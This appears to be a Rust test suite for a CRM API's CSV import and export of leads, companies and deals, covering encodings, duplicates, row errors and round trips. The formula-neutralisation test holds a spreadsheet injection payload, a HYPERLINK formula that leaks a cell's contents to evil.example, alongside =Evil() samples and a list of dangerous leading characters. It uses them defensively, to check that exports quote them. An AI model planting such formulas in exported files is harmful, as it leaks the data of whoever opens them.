//! Leads and companies in and out as CSV, as spreadsheets and other CRMs write them.

use crate::common;
use crate::common::TestServer;
use serde_json::json;

fn import(s: &TestServer, key: &str, csv: &str, query: &str) -> common::Resp {
    import_bytes(s, key, "leads", csv.as_bytes(), query, "text/csv")
}

fn import_bytes(
    s: &TestServer,
    key: &str,
    resource: &str,
    bytes: &[u8],
    query: &str,
    content_type: &str,
) -> common::Resp {
    s.call(
        "POST",
        &format!("/{resource}/import{query}"),
        Some(key),
        Some(bytes),
        &[("content-type", content_type)],
    )
}

/// Seven data rows; row 7 has a bad email, row 5 repeats row 1's email (in another case), and
/// rows hold quoted commas, a quoted line break, quotes inside quotes and non-ASCII text.
const SPREADSHEET: &str =
    "\u{feff}First Name,Last Name,Email,Company,Title,Tags,Favourite Colour\r\n\
Ada,Lovelace,ada@example.com,\"Analytical Engines, Ltd.\",Countess,vip;math,blue\r\n\
Grace,Hopper,grace@example.com,Navy,\"Rear Admiral\nRetired\",,green\r\n\
Zoë,Ünal,zoe@example.com,\"Ünal \"\"Big\"\" Co\",CTO,,red\r\n\
Alan,Turing,alan@example.com,Bletchley,,,\r\n\
Ada,Again,ADA@example.com,Dup Inc,,,\r\n\
Katherine,Johnson,katherine@example.com,NASA,,,\r\n\
Bad,Email,not-an-email,Nowhere,,,\r\n";

#[test]
fn a_spreadsheet_export_imports_every_good_row_and_reports_the_rest() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    let r = import(&s, &k, SPREADSHEET, "");
    let out = r.data(200);
    assert_eq!(out["created"], 5, "{out}");
    assert_eq!(out["skipped"], 1);
    assert_eq!(out["updated"], 0);
    assert_eq!(out["unknown_columns"], json!(["Favourite Colour"]));
    assert_eq!(
        (out["rows"].as_i64(), out["failed"].as_i64()),
        (Some(7), Some(1))
    );
    assert_eq!(
        (out["encoding"].as_str(), out["delimiter"].as_str()),
        (Some("UTF-8"), Some("comma"))
    );
    let errors = out["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{out}");
    assert_eq!(errors[0]["row"], 7);
    assert_eq!(
        errors[0]["line"], 9,
        "the header is line 1 and row 2 spans two lines"
    );
    assert!(
        errors[0]["message"].as_str().unwrap().contains("email"),
        "{out}"
    );
    let dups = out["duplicates"].as_array().unwrap();
    assert_eq!(dups.len(), 1);
    assert_eq!(dups[0]["row"], 5);
    let ada = s.get("/leads?q=lovelace", &k).data(200)[0].clone();
    assert_eq!(dups[0]["id"], ada["id"]);
    assert_eq!(ada["company_name"], "Analytical Engines, Ltd.");
    assert_eq!(ada["tags"], json!(["vip", "math"]));
    assert_eq!(ada["source"], "import");
    let grace = s.get("/leads?q=grace", &k).data(200)[0].clone();
    assert_eq!(grace["title"], "Rear Admiral\nRetired");
    let zoe = s.get("/leads?q=zoe%40example.com", &k).data(200)[0].clone();
    assert_eq!(
        (zoe["first_name"].as_str(), zoe["company_name"].as_str()),
        (Some("Zoë"), Some("Ünal \"Big\" Co"))
    );
    assert_eq!(s.count("SELECT COUNT(*) FROM leads"), 5);
    assert_eq!(
        s.count("SELECT COUNT(*) FROM events WHERE type = 'lead.created'"),
        5
    );
}

#[test]
fn on_duplicate_update_fills_the_existing_lead() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    s.post(
        "/leads",
        &k,
        json!({"email": "ada@example.com", "first_name": "Ada"}),
    )
    .data(201);
    let out = import(
        &s,
        &k,
        "email,title,phone\nada@example.com,Countess,+44 1\n",
        "?on_duplicate=update",
    )
    .data(200);
    assert_eq!(
        (out["created"].as_i64(), out["updated"].as_i64()),
        (Some(0), Some(1))
    );
    let ada = s.get("/leads", &k).data(200)[0].clone();
    assert_eq!(
        (
            ada["first_name"].as_str(),
            ada["title"].as_str(),
            ada["phone"].as_str()
        ),
        (Some("Ada"), Some("Countess"), Some("+44 1"))
    );
    import(&s, &k, "email\nx@example.com\n", "?on_duplicate=merge").error(422, "validation_error");
}

#[test]
fn unusable_files_are_rejected_whole() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    import(&s, &k, "", "").error(422, "validation_error");
    import(&s, &k, "  \nemail\nx@example.com\n", "").error(422, "validation_error");
    // A header that names nothing a lead has: refused whole, saying what it should name.
    let e = import(&s, &k, "colour,size\nred,3\n", "").error(422, "validation_error");
    assert!(
        e["message"]
            .as_str()
            .unwrap()
            .contains("first_name, last_name"),
        "{e}"
    );
    import(&s, &k, "{}", "").error(422, "validation_error");
    let r = s.call(
        "POST",
        "/leads/import",
        Some(&k),
        Some(b"email\nx@example.com\n"),
        &[("content-type", "application/json")],
    );
    let e = r.error(415, "unsupported_media_type");
    assert!(
        e["message"].as_str().unwrap().ends_with("send text/csv"),
        "{e}"
    );
    let reader = s.key_with(&["read"]);
    import(&s, &reader, "email\nx@example.com\n", "").error(403, "forbidden");
    assert_eq!(s.count("SELECT COUNT(*) FROM leads"), 0);
    // A ragged row is reported, the rest imported.
    let out = import(
        &s,
        &k,
        "email,first_name\na@example.com,A\nb@example.com,B,extra\n",
        "",
    )
    .data(200);
    assert_eq!(out["created"], 1);
    assert_eq!(out["errors"][0]["row"], 2);
}

#[test]
fn export_streams_the_filtered_leads_and_round_trips() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    import(&s, &k, SPREADSHEET, "").data(200);
    s.patch(
        &format!(
            "/leads/{}",
            s.get("/leads?q=alan", &k).data(200)[0]["id"]
                .as_str()
                .unwrap()
        ),
        &k,
        json!({"status": "qualified"}),
    )
    .data(200);
    let r = s.call("GET", "/leads/export?sort=email", Some(&k), None, &[]);
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-type"), Some("text/csv; charset=utf-8"));
    assert!(r
        .header("content-disposition")
        .unwrap()
        .contains("leads.csv"));
    let mut reader = csv::Reader::from_reader(r.body.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(headers[..4], ["id", "first_name", "last_name", "email"]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5);
    let emails: Vec<&str> = rows.iter().map(|r| r.get(3).unwrap()).collect();
    assert_eq!(
        emails,
        [
            "ada@example.com",
            "alan@example.com",
            "grace@example.com",
            "katherine@example.com",
            "zoe@example.com"
        ]
    );
    let grace = rows
        .iter()
        .find(|r| r.get(3) == Some("grace@example.com"))
        .unwrap();
    assert_eq!(grace.get(5), Some("Rear Admiral\nRetired"));

    let qualified = s.call(
        "GET",
        "/leads/export?status=qualified&bom=true",
        Some(&k),
        None,
        &[],
    );
    assert!(qualified.body.starts_with('\u{feff}'));
    assert_eq!(qualified.body.lines().count(), 2, "{}", qualified.body);
    s.call("GET", "/leads/export?status=nope", Some(&k), None, &[])
        .error(422, "validation_error");

    // What was exported imports again into another organization: every column is known.
    let b = s.second_org();
    let out = import(&s, &b, &r.body, "").data(200);
    assert_eq!(out["created"], 5, "{out}");
    assert_eq!(out["unknown_columns"], json!([]), "{out}");
}

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/csv/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// The lead stored under `email`, as the API gives it.
fn lead(s: &TestServer, key: &str, email: &str) -> serde_json::Value {
    let found = s
        .get(&format!("/leads?q={}", email.replace('@', "%40")), key)
        .data(200);
    assert_eq!(found.as_array().map(Vec::len), Some(1), "{email}: {found}");
    found[0].clone()
}

#[test]
fn files_from_excel_google_hubspot_and_pipedrive_import_with_every_email() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    // (file, media type, encoding read, separator read, one lead to check: email, first name,
    // company)
    let cases = [
        (
            "excel-utf8-bom.csv",
            "text/csv",
            "UTF-8",
            "comma",
            ("renee@example.fr", "Renée", "Société Générale"),
        ),
        (
            "excel-windows-1252.csv",
            "text/csv",
            "windows-1252",
            "comma",
            ("jose@example.es", "José", "Año Nuevo S.L."),
        ),
        (
            "excel-semicolon.csv",
            "text/csv",
            "UTF-8",
            "semicolon",
            ("peter@example.de", "Peter", "Weber; Söhne"),
        ),
        (
            "excel-unicode-text.txt",
            "text/plain",
            "UTF-16LE",
            "tab",
            ("yuki@example.jp", "Yuki", "株式会社テスト"),
        ),
        (
            "google-sheets.csv",
            "text/csv",
            "UTF-8",
            "comma",
            ("charles@example.com", "Charles", "Difference Engine, Ltd"),
        ),
        (
            "hubspot-contacts.csv",
            "text/csv",
            "UTF-8",
            "comma",
            ("tom@example.se", "Tom", "Berg AB"),
        ),
        (
            "pipedrive-people.csv",
            "application/vnd.ms-excel",
            "UTF-8",
            "comma",
            ("maria@example.it", "Maria", "Rossi SpA"),
        ),
    ];
    for (file, media, encoding, delimiter, (email, first, company)) in cases {
        let out = import_bytes(&s, &k, "leads", &fixture(file), "", media).data(200);
        assert_eq!(out["created"], 2, "{file}: {out}");
        assert_eq!(out["failed"], 0, "{file}: {out}");
        assert_eq!(
            (out["encoding"].as_str(), out["delimiter"].as_str()),
            (Some(encoding), Some(delimiter)),
            "{file}"
        );
        let l = lead(&s, &k, email);
        assert_eq!(
            (l["first_name"].as_str(), l["company_name"].as_str()),
            (Some(first), Some(company)),
            "{file}"
        );
    }
    // Every row of every file kept its email: the dedupe key is never dropped.
    assert_eq!(s.count("SELECT COUNT(*) FROM leads WHERE email IS NULL"), 0);
    assert_eq!(s.count("SELECT COUNT(*) FROM leads"), 14);
    let ada = lead(&s, &k, "ada@example.com");
    assert_eq!(
        (ada["last_name"].as_str(), ada["tags"].clone()),
        (Some("Lovelace"), json!(["vip", "math"]))
    );
    // HubSpot's `Open` status and Pipedrive's owner who is not a member are warnings on rows
    // that were stored.
    assert_eq!(lead(&s, &k, "tom@example.se")["status"], "new");
    let maria = lead(&s, &k, "maria@example.it");
    assert_eq!(
        (maria["owner_id"].is_null(), maria["tags"].clone()),
        (true, json!(["Hot lead"]))
    );
}

#[test]
fn windows_1252_is_read_when_declared_and_an_unknown_charset_is_refused() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    let bytes = "email,first_name\nzoe@example.com,Zoë\n"
        .as_bytes()
        .to_vec();
    // Declared Windows-1252, these UTF-8 bytes read as two characters: the declaration wins.
    let out = import_bytes(
        &s,
        &k,
        "leads",
        &bytes,
        "",
        "text/csv; charset=windows-1252",
    )
    .data(200);
    assert_eq!(out["encoding"], "windows-1252");
    assert_eq!(lead(&s, &k, "zoe@example.com")["first_name"], "ZoÃ«");
    let e = import_bytes(&s, &k, "leads", &bytes, "", "text/csv; charset=klingon")
        .error(422, "validation_error");
    assert!(e["message"].as_str().unwrap().contains("klingon"), "{e}");
    // `delimiter=` overrides the header row's first separator.
    let out = import(
        &s,
        &k,
        "email;x,y\nsemi@example.com;1,2\n",
        "?delimiter=semicolon",
    )
    .data(200);
    assert_eq!(
        (out["created"].as_i64(), out["delimiter"].as_str()),
        (Some(1), Some("semicolon"))
    );
}

#[test]
fn a_failed_row_never_fails_the_file_and_a_failed_file_stores_nothing() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    let mut csv = String::from("email,owner_email,company_id,status\n");
    for i in 1..=1500 {
        match i {
            1200 => csv.push_str("u1200@example.com,usr_doesnotexist0000000000,,\n"),
            1300 => csv.push_str("u1300@example.com,,co_notours000000000000000,\n"),
            1400 => csv.push_str("not-an-email,,,\n"),
            _ => csv.push_str(&format!("u{i}@example.com,,,\n")),
        }
    }
    let out = import(&s, &k, &csv, "").data(200);
    assert_eq!(
        (
            out["rows"].as_i64(),
            out["created"].as_i64(),
            out["failed"].as_i64()
        ),
        (Some(1500), Some(1499), Some(1)),
        "{out}"
    );
    assert_eq!(out["errors"][0]["row"], 1400);
    assert_eq!(out["errors"][0]["line"], 1401);
    assert_eq!(out["errors"][0]["field"], "email");
    let warned: Vec<(i64, &str)> = out["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| (w["row"].as_i64().unwrap(), w["field"].as_str().unwrap()))
        .collect();
    assert_eq!(warned, [(1200, "owner_email"), (1300, "company_id")]);
    assert!(lead(&s, &k, "u1200@example.com")["owner_id"].is_null());
    // A file that fails as a whole (here: too large for the import's limit is not needed; an
    // unknown charset is enough) stores nothing at all.
    let before = s.count("SELECT COUNT(*) FROM leads");
    import_bytes(
        &s,
        &k,
        "leads",
        b"email\nnew@example.com\n",
        "",
        "text/csv; charset=nope",
    )
    .error(422, "validation_error");
    assert_eq!(s.count("SELECT COUNT(*) FROM leads"), before);
    // on_duplicate=error makes a duplicate a row error naming the lead it clashes with.
    let out = import(
        &s,
        &k,
        "email\nu1@example.com\nfresh@example.com\n",
        "?on_duplicate=error",
    )
    .data(200);
    assert_eq!(
        (out["created"].as_i64(), out["failed"].as_i64()),
        (Some(1), Some(1))
    );
    assert_eq!(out["errors"][0]["id"], lead(&s, &k, "u1@example.com")["id"]);
}

#[test]
fn a_column_of_email_addresses_under_another_name_is_a_warning() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    let out = import(&s, &k, "first_name,Courriel\nAnne,anne@example.fr\n", "").data(200);
    assert_eq!(out["created"], 1);
    let w = &out["warnings"][0];
    assert_eq!(w["row"], 0);
    assert!(
        w["message"]
            .as_str()
            .unwrap()
            .contains("`Courriel` holds email addresses"),
        "{out}"
    );
}

#[test]
fn exports_neutralise_formulas_and_import_them_back_unchanged() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    import_bytes(&s, &k, "leads", &fixture("formulas.csv"), "", "text/csv").data(200);
    // Typed through the API too.
    s.post(
        "/leads",
        &k,
        json!({"email": "api@example.com", "title": "=1+2", "phone": "+1 555"}),
    )
    .data(201);
    let csv = s
        .call("GET", "/leads/export?sort=email", Some(&k), None, &[])
        .body;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let at = |name: &str| headers.iter().position(|h| h == name).unwrap();
    for record in reader.records() {
        let record = record.unwrap();
        for (i, cell) in record.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {} holds a live formula: {cell:?}",
                &headers[i]
            );
        }
        assert!(
            record[at("score")].parse::<i64>().is_ok(),
            "numbers stay numbers"
        );
    }
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    // Imported into another organization, every text is what was typed.
    let b = s.second_org();
    import(&s, &b, &csv, "").data(200);
    let mallory = lead(&s, &b, "mallory@example.com");
    assert_eq!(
        mallory["first_name"],
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Click\")"
    );
    assert_eq!(mallory["title"], "@SUM(1+1)");
    let plain = lead(&s, &b, "plain@example.com");
    assert_eq!(
        (plain["title"].as_str(), plain["company_name"].as_str()),
        (Some("-2+3"), Some("Tabbed"))
    );
    let api = lead(&s, &b, "api@example.com");
    assert_eq!(
        (api["title"].as_str(), api["phone"].as_str()),
        (Some("=1+2"), Some("+1 555"))
    );
}

#[test]
fn leads_round_trip_into_another_organization_with_owners_by_email() {
    let s = TestServer::start();
    let a = s.key_with(&["read", "write", "admin"]);
    let sam = s
        .post(
            "/users",
            &a,
            json!({"email": "sam@shared.example", "name": "Sam"}),
        )
        .data(201);
    let solo = s
        .post(
            "/users",
            &a,
            json!({"email": "solo@a.example", "name": "Solo"}),
        )
        .data(201);
    let full = json!({
        "first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.com",
        "phone": "+44 1", "title": "Countess", "company_name": "Engines", "country": "GB",
        "status": "qualified", "tags": ["vip", "math"], "owner_id": sam["id"],
    });
    s.post("/leads", &a, full.clone()).data(201);
    s.post(
        "/leads",
        &a,
        json!({"email": "nosource@example.com", "owner_id": solo["id"]}),
    )
    .data(201);
    let csv = s.call("GET", "/leads/export", Some(&a), None, &[]).body;

    let b = s.second_org();
    let sam_b = s
        .post(
            "/users",
            &b,
            json!({"email": "SAM@shared.example", "name": "Sam B"}),
        )
        .data(201);
    let out = import(&s, &b, &csv, "").data(200);
    assert_eq!(
        (out["created"].as_i64(), out["failed"].as_i64()),
        (Some(2), Some(0)),
        "{out}"
    );
    let ada = lead(&s, &b, "ada@example.com");
    for field in [
        "first_name",
        "last_name",
        "email",
        "phone",
        "title",
        "company_name",
        "country",
        "status",
        "tags",
    ] {
        assert_eq!(ada[field], full[field], "{field}");
    }
    assert_eq!(
        ada["source"],
        serde_json::Value::Null,
        "no source stays no source"
    );
    assert_eq!(
        ada["owner_id"], sam_b["id"],
        "the owner is matched by email"
    );
    // Solo is not a member of the other organization: reported, and the lead is unassigned.
    let other = lead(&s, &b, "nosource@example.com");
    assert!(other["owner_id"].is_null());
    let w = &out["warnings"][0];
    assert_eq!(
        (w["field"].as_str(), w["id"].as_str()),
        (Some("owner_email"), other["id"].as_str())
    );
    assert!(
        w["message"].as_str().unwrap().contains("solo@a.example"),
        "{out}"
    );
}

#[test]
fn companies_import_export_and_round_trip() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write", "admin"]);
    s.post(
        "/users",
        &k,
        json!({"email": "owner@shared.example", "name": "O"}),
    )
    .data(201);
    let file = "Company Name;Company Domain Name;Industry;Number of Employees;Country/Region;Website URL;Company owner\r\n\
Acme;acme.example;Software;1,200;US;https://acme.example;owner@shared.example\r\n\
Globex;;Energy;51-200;DE;;\r\n\
=Evil();evil.example;;;;;\r\n\
;nameless.example;;;;;\r\n";
    let out = import_bytes(&s, &k, "companies", file.as_bytes(), "", "text/csv").data(200);
    assert_eq!(
        (
            out["rows"].as_i64(),
            out["created"].as_i64(),
            out["failed"].as_i64()
        ),
        (Some(4), Some(3), Some(1)),
        "{out}"
    );
    assert_eq!(
        (
            out["errors"][0]["row"].as_i64(),
            out["errors"][0]["field"].as_str()
        ),
        (Some(4), Some("name"))
    );
    assert_eq!(out["warnings"][0]["field"], "size");
    let acme = &s.get("/companies?q=acme", &k).data(200)[0];
    assert_eq!(
        (acme["size"].as_i64(), acme["domain"].as_str()),
        (Some(1200), Some("acme.example"))
    );
    // The same file again: matched by domain (Acme) or name (Globex), skipped or updated.
    let again = import_bytes(
        &s,
        &k,
        "companies",
        file.as_bytes(),
        "?on_duplicate=skip",
        "text/csv",
    )
    .data(200);
    assert_eq!(
        (again["created"].as_i64(), again["skipped"].as_i64()),
        (Some(0), Some(3)),
        "{again}"
    );

    let csv = s.call("GET", "/companies/export?sort=name", Some(&k), None, &[]);
    assert_eq!(csv.status, 200);
    assert!(csv
        .header("content-disposition")
        .unwrap()
        .contains("companies.csv"));
    assert!(csv.body.contains("'=Evil()"), "{}", csv.body);
    let b = s.second_org();
    let owner_b = s
        .post(
            "/users",
            &b,
            json!({"email": "owner@shared.example", "name": "O"}),
        )
        .data(201);
    let out = import_bytes(&s, &b, "companies", csv.body.as_bytes(), "", "text/csv").data(200);
    assert_eq!(
        (out["created"].as_i64(), out["unknown_columns"].clone()),
        (Some(3), json!([])),
        "{out}"
    );
    let acme_b = &s.get("/companies?q=acme", &b).data(200)[0];
    for field in [
        "name", "domain", "industry", "size", "country", "website", "tags",
    ] {
        assert_eq!(acme_b[field], acme[field], "{field}");
    }
    assert_eq!(acme_b["owner_id"], owner_b["id"]);
    assert_eq!(
        s.get("/companies?q=evil", &b).data(200)[0]["name"],
        "=Evil()"
    );
}

#[test]
fn deals_import_by_names_and_round_trip_with_their_companies_and_leads() {
    let s = TestServer::start();
    let a = s.key_with(&["read", "write", "admin"]);
    s.post(
        "/users",
        &a,
        json!({"email": "rep@shared.example", "name": "Rep"}),
    )
    .data(201);
    import_bytes(
        &s,
        &a,
        "companies",
        b"name,domain\nAcme,acme.example\nGlobex,\n",
        "",
        "text/csv",
    )
    .data(200);
    import(&s, &a, "email,first_name\nbuyer@acme.example,Bea\n", "").data(200);
    let file = "Deal Title,Amount,Currency,Pipeline,Deal Stage,Contact Email,Organization,Deal Owner,Close Date,Lost Reason,Labels\n\
Acme renewal,\"12,500.00\",EUR,Sales,Qualified,buyer@acme.example,acme.example,rep@shared.example,2027-03-31,,q1;renewal\n\
Globex pilot,€ 3 000,,,Closed Lost,,Globex,nobody@else.test,,Went with a rival,\n\
Bad stage,10,,,Nowhere,,,,,,\n\
Bad value,ten,,,,,,,,,\n\
Bad company,5,,,,,Initech,,,,\n";
    let out = import_bytes(&s, &a, "deals", file.as_bytes(), "", "text/csv").data(200);
    assert_eq!(
        (
            out["rows"].as_i64(),
            out["created"].as_i64(),
            out["failed"].as_i64()
        ),
        (Some(5), Some(2), Some(3)),
        "{out}"
    );
    let failed: Vec<(i64, &str)> = out["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["row"].as_i64().unwrap(), e["field"].as_str().unwrap()))
        .collect();
    assert_eq!(failed, [(3, "stage"), (4, "value"), (5, "company")]);
    assert_eq!(out["warnings"][0]["field"], "owner_email");
    let deals = s.get("/deals?sort=title", &a).data(200);
    let acme = &deals[0];
    assert_eq!(
        (
            acme["value"].as_f64(),
            acme["currency"].as_str(),
            acme["stage_name"].as_str()
        ),
        (Some(12500.0), Some("EUR"), Some("Qualified"))
    );
    let globex = &deals[1];
    assert_eq!(
        (
            globex["status"].as_str(),
            globex["lost_reason"].as_str(),
            globex["value"].as_f64()
        ),
        (Some("lost"), Some("Went with a rival"), Some(3000.0))
    );
    assert!(
        globex["owner_id"].is_null(),
        "an owner column without a member leaves it unowned"
    );

    // The three files, into another organization, in order: every deal field comes back.
    let export = |what: &str| {
        s.call("GET", &format!("/{what}/export"), Some(&a), None, &[])
            .body
    };
    let (companies, leads, deals_csv) = (export("companies"), export("leads"), export("deals"));
    assert!(
        deals_csv.contains("acme.example") && deals_csv.contains("buyer@acme.example"),
        "{deals_csv}"
    );
    let b = s.second_org();
    let rep_b = s
        .post(
            "/users",
            &b,
            json!({"email": "rep@shared.example", "name": "Rep B"}),
        )
        .data(201);
    import_bytes(&s, &b, "companies", companies.as_bytes(), "", "text/csv").data(200);
    import(&s, &b, &leads, "").data(200);
    let out = import_bytes(&s, &b, "deals", deals_csv.as_bytes(), "", "text/csv").data(200);
    assert_eq!(
        (out["created"].as_i64(), out["failed"].as_i64()),
        (Some(2), Some(0)),
        "{out}"
    );
    let copies = s.get("/deals?sort=title", &b).data(200);
    for (original, copy) in deals
        .as_array()
        .unwrap()
        .iter()
        .zip(copies.as_array().unwrap())
    {
        for field in [
            "title",
            "value",
            "currency",
            "stage_name",
            "status",
            "expected_close_date",
            "lost_reason",
            "tags",
        ] {
            assert_eq!(copy[field], original[field], "{field}");
        }
    }
    assert_eq!(copies[0]["owner_id"], rep_b["id"]);
    let lead_b = &s.get("/leads", &b).data(200)[0];
    assert_eq!(copies[0]["lead_id"], lead_b["id"]);
    // Imported back into its own organization, the ids match: skipped, or updated, never doubled.
    let again = import_bytes(&s, &a, "deals", deals_csv.as_bytes(), "", "text/csv").data(200);
    assert_eq!(
        (again["created"].as_i64(), again["skipped"].as_i64()),
        (Some(0), Some(2)),
        "{again}"
    );
}

#[test]
#[ignore = "heavy (a 100,000-row file): .ci/run runs it with --ignored"]
fn a_100000_row_file_with_scattered_bad_rows_is_accounted_for_row_by_row() {
    let s = TestServer::start();
    let k = s.key_with(&["read", "write"]);
    // Every 997th row has a bad email, every 1,009th repeats row 1's email (in another case),
    // every 4,001st is ragged: scattered through the file, each reported at its row and line.
    let mut csv = String::from("First Name;E-mail;Company;Phone Number\r\n");
    let (mut bad, mut dups, mut ragged) = (Vec::new(), Vec::new(), Vec::new());
    for row in 1..=100_000usize {
        if row % 4001 == 0 {
            csv.push_str(&format!("R{row};r{row}@example.com;Co;1;extra\r\n"));
            ragged.push(row);
        } else if row % 997 == 0 {
            csv.push_str(&format!("B{row};not-an-email-{row};Co;\r\n"));
            bad.push(row);
        } else if row % 1009 == 0 {
            csv.push_str(&format!("D{row};U1@example.com;Co;\r\n"));
            dups.push(row);
        } else {
            csv.push_str(&format!(
                "U{row};u{row}@example.com;Co {};+1 555 {row}\r\n",
                row % 50
            ));
        }
    }
    let out = import(&s, &k, &csv, "").data(200);
    let count = |key: &str| out[key].as_i64().unwrap();
    assert_eq!(count("rows"), 100_000);
    assert_eq!(
        count("created") + count("updated") + count("skipped") + count("failed"),
        100_000,
        "every row accounted for"
    );
    let mut failed: Vec<usize> = out["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let row = e["row"].as_u64().unwrap() as usize;
            assert_eq!(e["line"].as_u64().unwrap() as usize, row + 1, "{e}");
            row
        })
        .collect();
    failed.sort_unstable();
    let mut expected: Vec<usize> = bad.iter().chain(&ragged).copied().collect();
    expected.sort_unstable();
    assert_eq!(failed, expected);
    let skipped: Vec<usize> = out["duplicates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["row"].as_u64().unwrap() as usize)
        .collect();
    assert_eq!(skipped, dups);
    assert_eq!(
        s.count("SELECT COUNT(*) FROM leads"),
        (100_000 - bad.len() - ragged.len() - dups.len()) as i64
    );
}
